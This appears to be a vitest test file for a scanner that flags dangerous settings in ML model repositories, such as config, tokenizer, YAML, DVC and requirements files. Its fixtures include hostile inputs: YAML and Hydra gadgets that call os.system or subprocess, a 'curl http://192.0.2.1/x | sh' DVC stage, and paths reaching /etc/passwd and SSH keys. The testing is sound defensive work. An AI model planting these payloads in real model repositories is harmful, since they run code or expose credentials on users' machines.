import { describe, expect, it } from 'vitest';
import { scanBytes } from '../../../../testkit/src/scan-bytes.ts';
import { MemoryAccess } from '../../bytes/random-access.ts';
import { DEFAULT_PLUGINS } from '../../engine/default-plugins.ts';
import { scanSource } from '../../engine/scan-source.ts';

function scan(name: string, content: unknown) {
  return scanBytes(Buffer.from(typeof content === 'string' ? content : JSON.stringify(content)), name);
}

const DIGEST = `sha256:${'a'.repeat(64)}`;

describe('honest repositories', () => {
  it.each<readonly [string, unknown]>([
    [
      'config.json',
      {
        _name_or_path: '/data/models/llama',
        architectures: ['LlamaForCausalLM'],
        model_type: 'llama',
        torch_dtype: 'bfloat16',
        _attn_implementation: 'flash_attention_2',
        text_config: { _attn_implementation: { '': 'sdpa' } },
        quantization_config: { quant_method: 'bitsandbytes', bnb_4bit_compute_dtype: 'float16' },
        id2label: { 0: 'os.system' },
      },
    ],
    [
      'tokenizer_config.json',
      {
        tokenizer_class: 'X',
        chat_template: '{{ messages[0].content }}',
        added_tokens_decoder: { 0: { content: '<unk>' } },
      },
    ],
    [
      'tokenizer.json',
      {
        added_tokens: [{ id: 0, content: '<s>' }],
        normalizer: { type: 'Sequence', normalizers: [{ type: 'Prepend', prepend: '_' }] },
        model: {
          type: 'BPE',
          vocab: {
            'os.system': 1,
            _target_: 2,
            auto_map: 3,
            trust_remote_code: 4,
            chat_template: 5,
            '{{': 6,
          },
          merges: ['a b'],
        },
      },
    ],
    ['generation_config.json', { bos_token_id: 1, transformers_version: '4.40.0' }],
    ['special_tokens_map.json', { bos_token: { content: '<s>', lstrip: false } }],
    ['vocab.json', { a: 1, eval: 2, __class__: 3 }],
    ['merges.txt', '#version: 0.2\na b\n'],
    ['.gitattributes', '*.bin filter=lfs diff=lfs merge=lfs -text\n'],
    [
      'README.md',
      '---\nlicense: apache-2.0\nbase_model: a/b\ndatasets:\n- c/d\n---\n# A model\n\n```python\nimport os\nos.system("ls")\n```\n{{ x.__class__ }} !!python/object/apply:os.system trust_remote_code=True\n',
    ],
    [
      'model_index.json',
      {
        _class_name: 'StableDiffusionPipeline',
        _diffusers_version: '0.21.0',
        scheduler: ['diffusers', 'PNDMScheduler'],
        safety_checker: ['stable_diffusion', 'StableDiffusionSafetyChecker'],
        image_encoder: [null, null],
      },
    ],
    ['preprocessor_config.json', { image_processor_type: 'CLIPImageProcessor', size: 224 }],
    [
      'modules.json',
      [
        { idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' },
        { idx: 1, name: '1', path: '1_Pooling', type: 'sentence_transformers.models.Pooling' },
      ],
    ],
    ['sentence_bert_config.json', { max_seq_length: 512, do_lower_case: false }],
    ['sentence_bert_config.json', { model_args: { torch_dtype: 'float16' }, tokenizer_args: {} }],
    [
      'config.json',
      { in_features: 1, out_features: 2, activation_function: 'torch.nn.modules.activation.Tanh' },
    ],
    ['config.json', { in_features: 1, activation_function: 'torch.nn.modules.linear.Identity' }],
    ['config.json', { model_type: 'gpt2', activation_function: 'gelu_new' }],
    [
      'config.json',
      { model_type: 'bert', sentence_transformers: { activation_fn: 'torch.nn.modules.activation.Sigmoid' } },
    ],
    [
      'router_config.json',
      {
        types: {
          query_0_SparseStaticEmbedding:
            'sentence_transformers.sparse_encoder.models.SparseStaticEmbedding.SparseStaticEmbedding',
          document_0_MLMTransformer:
            'sentence_transformers.sparse_encoder.models.MLMTransformer.MLMTransformer',
        },
        structure: { query: ['query_0_SparseStaticEmbedding'], document: ['document_0_MLMTransformer'] },
      },
    ],
    [
      'wordembedding_config.json',
      {
        tokenizer_class: 'sentence_transformers.models.tokenizer.WhitespaceTokenizer.WhitespaceTokenizer',
        update_embeddings: false,
      },
    ],
    [
      'tokenizer_config.json',
      {
        tokenizer_class: 'BertTokenizer',
        vocab_file: '/home/author/data/vocab.txt',
        tokenizer_file: '/root/.cache/huggingface/transformers/402c6a.json',
        merges_file: null,
      },
    ],
    ['config', '[core]\n    remote = storage\n[\'remote "storage"\']\n    url = /mnt/data/dvc-store\n'],
    ['config', '[core]\n    remote = s\n[\'remote "s"\']\n    url = s3://bucket/x\n'],
    [
      'adapter_config.json',
      { peft_type: 'LORA', base_model_name_or_path: 'a/b', auto_mapping: null, target_modules: ['q_proj'] },
    ],
    [
      'adapter_config.json',
      {
        peft_type: 'LORA',
        auto_mapping: {
          base_model_class: 'LlamaForCausalLM',
          parent_library: 'transformers.models.llama.modeling_llama',
        },
      },
    ],
    ['model.safetensors.index.json', { metadata: {}, weight_map: { a: 'model-00001-of-00001.safetensors' } }],
    [
      'MLmodel',
      'flavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    model_code_path: /home/author/project/model.py\n  sklearn:\n    code: null\n    pickled_model: model.pkl\nmlflow_version: 2.3.0\n',
    ],
    [
      'python_env.yaml',
      'python: 3.9.12\nbuild_dependencies:\n- pip==22\ndependencies:\n- -r requirements.txt\n',
    ],
    [
      'conda.yaml',
      'name: x\nchannels: [conda-forge]\ndependencies:\n- python=3.9\n- pip:\n  - mlflow\n  - --extra-index-url https://download.pytorch.org/whl/cu118\n',
    ],
    [
      'requirements.txt',
      'torch>=2.0  # see https://example.org/x\n-r other.txt\ngit+https://github.com/huggingface/peft.git\n',
    ],
    ['data.csv.dvc', 'outs:\n- md5: a304afb96060aad90176268345e10355\n  size: 1\n  path: data.csv\n'],
    [
      'dvc.yaml',
      'stages:\n  train:\n    cmd: python train.py --lr 0.1\n    deps: [train.py, ../data/x.csv]\n    outs: [model.pkl]\n',
    ],
    ['package.json', { name: 'socket.io', main: 'index.js', type: 'module', module: 'dist/x.js' }],
    [
      'index.json',
      {
        schemaVersion: 2,
        manifests: [{ mediaType: 'application/vnd.oci.image.manifest.v1+json', digest: DIGEST, size: 1 }],
      },
    ],
    ['training.yaml', 'trust_remote_code: true\noutput_dir: /x\nbase_model: a/b\n'],
    ['bento.yaml', 'service: "service:svc"\nname: x\nbentoml_version: 1.0.0\npython:\n  packages: [torch]\n'],
    [
      'hydra.yaml',
      'optimizer:\n  _target_: torch.optim.AdamW\n  lr: 1.0e-4\nact:\n  _target_: hydra.utils.get_method\n  path: torch.nn.functional.relu\nroot: ${oc.env:HOME}/x\nhalf: ${eval:"${a} / 2"}\n',
    ],
  ])('%s is clean', (name, content) => {
    const { findings, gaps } = scan(name, content);
    expect(findings).toEqual([]);
    expect(gaps).toEqual([]);
  });
});

describe('what configurations make loaders do', () => {
  it.each<readonly [string, string, unknown]>([
    [
      'repository/runs-own-code low',
      'config.json',
      { model_type: 'x', auto_map: { AutoModel: 'modeling_x.X' } },
    ],
    [
      'repository/runs-own-code low',
      'tokenizer_config.json',
      { auto_map: { AutoTokenizer: ['tokenization_x.X', null] } },
    ],
    [
      'repository/runs-own-code low',
      'config.json',
      { model_type: 'x', custom_pipelines: { a: { impl: 'pipe.P', pt: ['AutoModel'] } } },
    ],
    [
      'repository/runs-foreign-code medium',
      'config.json',
      { model_type: 'x', auto_map: { AutoModel: 'a/b--modeling_x.X' } },
    ],
    [
      'repository/runs-foreign-code medium',
      'config.json',
      { model_type: 'x', a: { b: { auto_map: { AutoModel: 'a/b--m.X' } } } },
    ],
    [
      'repository/runs-foreign-code medium',
      'generation_config.json',
      { custom_generate: 'someone/generate' },
    ],
    [
      'repository/trusts-code medium',
      'config.json',
      { model_type: 'x', detector: { trust_remote_code: true } },
    ],
    [
      'repository/downloads-kernel high',
      'config.json',
      { model_type: 'x', _attn_implementation_internal: 'a/kernel:fn' },
    ],
    [
      'repository/downloads-kernel high',
      'config.json',
      { model_type: 'x', sub: { _attn_implementation: { t: 'a/kernel' } } },
    ],
    [
      'callable/runs-code critical',
      'model_index.json',
      { _class_name: 'P', _diffusers_version: '0.6.0', unet: ['os', 'system'] },
    ],
    [
      'repository/runs-own-code low',
      'model_index.json',
      { _class_name: ['pipeline', 'P'], _diffusers_version: '0.6.0' },
    ],
    ['callable/runs-code critical', 'modules.json', [{ idx: 0, name: '0', path: '', type: 'os.system' }]],
    ['callable/runs-code high', 'config.json', { in_features: 1, activation_function: 'os.system' }],
    [
      'callable/runs-code high',
      'config.json',
      { model_type: 'bert', sentence_transformers: { activation_fn: 'subprocess.call' } },
    ],
    [
      'callable/runs-code high',
      'router_config.json',
      { types: { query_0_X: 'subprocess.Popen' }, structure: { query: ['query_0_X'] } },
    ],
    [
      'callable/runs-code high',
      'wordembedding_config.json',
      { tokenizer_class: 'os.system', update_embeddings: false },
    ],
    [
      'repository/trusts-code medium',
      'sentence_bert_config.json',
      { max_seq_length: 1, model_args: { trust_remote_code: true } },
    ],
    [
      'repository/downloads-kernel high',
      'config.json',
      { model_type: 'x', kernel_config: { kernel_mapping: { RMSNorm: 'evil/kern:RMSNorm' } } },
    ],
    [
      'repository/downloads-kernel high',
      'config.json',
      { model_type: 'x', kernel_config: { kernel_mapping: { RMSNorm: { cuda: 'evil/kern:RMSNorm' } } } },
    ],
    [
      'reference/escapes-folder medium',
      'tokenizer_config.json',
      { tokenizer_class: 'LlamaTokenizer', vocab_file: '/etc/passwd' },
    ],
    [
      'reference/escapes-folder medium',
      'tokenizer_config.json',
      { tokenizer_class: 'LlamaTokenizer', vocab_file: '../../../../home/u/.ssh/id_rsa' },
    ],
    [
      'repository/runs-foreign-code medium',
      'model_index.json',
      { _class_name: ['pipeline', 'P'], _diffusers_version: '0.2', custom_pipeline: 'evil/repo' },
    ],
    [
      'repository/runs-own-code low',
      'model_index.json',
      { _class_name: 'P', _diffusers_version: '0.2', custom_pipeline: 'lpw_stable_diffusion' },
    ],
    ['reference/escapes-folder medium', 'config', '[core]\nremote = x\n[\'remote "x"\']\nurl = /etc\n'],
    ['callable/runs-code critical', 'params.txt', 'a: !!python/object/apply:os.system [echo]\n'],
    ['callable/runs-code critical', 'model.cfg', '# x\na: !!python/object/apply:os.system [echo]\n'],
    ['callable/runs-code critical', 'c.json', '{"a": !!python/object/apply:os.system ["echo"]}'],
    ['callable/unknown low', 'modules.json', [{ idx: 0, name: '0', path: '', type: 'own.Module' }]],
    [
      'reference/escapes-folder high',
      'modules.json',
      [{ idx: 0, name: '0', path: '../../x', type: 'sentence_transformers.models.Pooling' }],
    ],
    [
      'callable/runs-code high',
      'adapter_config.json',
      { peft_type: 'LORA', auto_mapping: { base_model_class: 'system', parent_library: 'os' } },
    ],
    [
      'reference/remote medium',
      'adapter_config.json',
      { peft_type: 'LORA', base_model_name_or_path: 'http://192.0.2.1/x' },
    ],
    [
      'reference/escapes-folder high',
      'MLmodel',
      'flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    data: /etc/passwd\n',
    ],
    ['callable/unknown medium', 'MLmodel', 'flavors:\n  python_function:\n    loader_module: own.loader\n'],
    ['callable/runs-code high', 'MLmodel', 'flavors:\n  python_function:\n    loader_module: os\n'],
    [
      'repository/installs-from-elsewhere medium',
      'conda.yaml',
      'name: x\ndependencies:\n- pip:\n  - --index-url http://example.org/simple\n',
    ],
    ['repository/installs-from-elsewhere medium', 'requirements.txt', 'x @ https://example.org/x.whl\n'],
    [
      'repository/installs-from-elsewhere medium',
      'requirements.txt',
      'x \\\n  @ git+https://gitlab.com/someone/x\n',
    ],
    ['embedded-code/runs-code medium', 'dvc.yaml', 'stages:\n  a:\n    cmd: curl http://192.0.2.1/x | sh\n'],
    ['reference/escapes-folder high', 'x.dvc', 'outs:\n- path: ../../../etc/cron.d/x\n  md5: a\n'],
    [
      'reference/escapes-folder high',
      'MANIFEST.json',
      { model: { modelName: 'x', handler: 'a/../../../x.py:h' }, archiverVersion: '0.9' },
    ],
    [
      'reference/escapes-folder high',
      'index.json',
      { schemaVersion: 2, layers: [{ digest: 'sha256:../../../etc/passwd' }] },
    ],
    [
      'reference/escapes-folder high',
      'index.json',
      {
        schemaVersion: 2,
        layers: [{ digest: DIGEST, annotations: { 'org.opencontainers.image.title': '../../.bashrc' } }],
      },
    ],
    [
      'reference/remote medium',
      'index.json',
      { schemaVersion: 2, layers: [{ digest: DIGEST, urls: ['http://192.0.2.1/x'] }] },
    ],
    ['callable/runs-code critical', 'README.md', '---\nx: !!python/object/apply:os.system [id]\n---\n'],
    [
      'callable/runs-code critical',
      'model_config.yaml',
      'a:\n  - b:\n      _target_: os.system\n      command: id\n',
    ],
    ['callable/runs-code critical', 'x.yaml', 'name: system\na:\n  _target_: os.${name}\n'],
    ['callable/runs-code critical', 'x.json', { _target_: 'nemo.core.config.hydra_runner.os.system' }],
    ['callable/runs-code high', 'x.json', { _target_: 'hydra.utils.get_method', path: 'os.system' }],
    [
      'callable/runs-code critical',
      'x.json',
      { _target_: 'functools.partial', _args_: ['subprocess.call', 'id'] },
    ],
    ['callable/runs-code critical', 'x.json', { class_path: 'subprocess.Popen', init_args: { args: 'id' } }],
    ['callable/runs-code critical', 'x.json', { __module__: 'os', __class__: 'system' }],
    ['embedded-code/runs-code medium', 'x.yaml', "a: ${eval:'__import__(1)'}\n"],
  ])('%s in %s', (expected, name, content) => {
    const said = scan(name, content).findings.map(({ ruleId, severity }) => `${ruleId} ${severity}`);
    expect(said).toContain(expected);
  });
});

it.each([
  ['requirements.txt', 'torch==2.4.0\n  --find-links https://x.example/y\n', { line: 2, column: 3 }],
  ['requirements.txt', 'torch==2.4.0\nx @ https://x.example/x.whl\n', { line: 2, column: 1 }],
  [
    'environment.yml',
    'name: x\nchannels:\n- https://x.example/y\ndependencies:\n- python=3.11\n',
    { line: 3, column: 3 },
  ],
  ['pip.conf', '[global]\nindex-url = https://x.example/simple\n', { line: 2 }],
])('marks the line of %s that installs from elsewhere', (name, content, location) => {
  const bytes = Buffer.from(content);
  const source = { path: name, sizeBytes: bytes.length, open: () => new MemoryAccess(bytes) };
  const { findings } = scanSource(source, {}, DEFAULT_PLUGINS, () => 0);
  const found = findings.find(({ ruleId }) => ruleId === 'repository/installs-from-elsewhere');
  expect(found?.location).toMatchObject(location);
});
